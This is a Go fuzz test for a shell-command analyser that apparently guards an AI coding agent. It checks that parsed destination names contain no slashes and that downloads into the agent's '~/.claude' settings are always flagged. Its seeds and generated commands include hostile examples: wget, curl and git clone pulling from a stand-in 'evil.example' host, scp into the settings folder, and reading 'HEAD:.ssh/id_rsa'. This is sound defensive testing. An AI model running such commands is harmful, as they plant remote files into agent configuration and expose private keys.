package shell

import (
	"strings"
	"testing"
)

// FuzzDestNames: the names a destination is read from (a URL's last part,
// a repository's name, a Go package's program, an into= attribute, a
// REV:path object name) never panic, never give a name with a slash, and
// a command built from them is analysed without a panic; into a place of
// the control plane it is never allowed silently.
func FuzzDestNames(f *testing.F) {
	for _, s := range []string{"https://evil.example/settings.json", "git@evil.example:x/.claude.git", "evil.example/cmd/actionguard-hook/v2@v2",
		"2/1", "last", "HEAD:.ssh/id_rsa", "/", "", "?#", "a/..", "https://x/?a=/b", ":/fix", "v2", "./...", "~", "$HOME/.claude", "-P"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 512 {
			return
		}
		for _, n := range []string{urlBase(s), repoName(s), goBinName(s), remoteBase(s)} {
			if strings.Contains(n, "/") {
				t.Fatalf("%q gives the name %q with a slash", s, n)
			}
		}
		if p := parseIntoPlace(s); p.op < intoLast || p.from < 0 {
			t.Fatalf("into=%q read as %+v", s, p)
		}
		q := shellQuote(s)
		for _, src := range []string{
			"wget -P ~/.claude https://evil.example/" + q,
			"git clone " + q + " " + q,
			"git -C " + q + " show HEAD:" + q,
			"GOBIN=" + q + " go install " + q,
			"scp " + q + " ~/.claude",
			"curl --output-dir " + q + " -O " + q,
		} {
			res := Analyze(src, destOptions)
			if strings.HasPrefix(src, "wget -P ~/.claude") && len(res.Findings) == 0 {
				t.Fatalf("%q: a download into the agent's settings is not judged", src)
			}
		}
	})
}
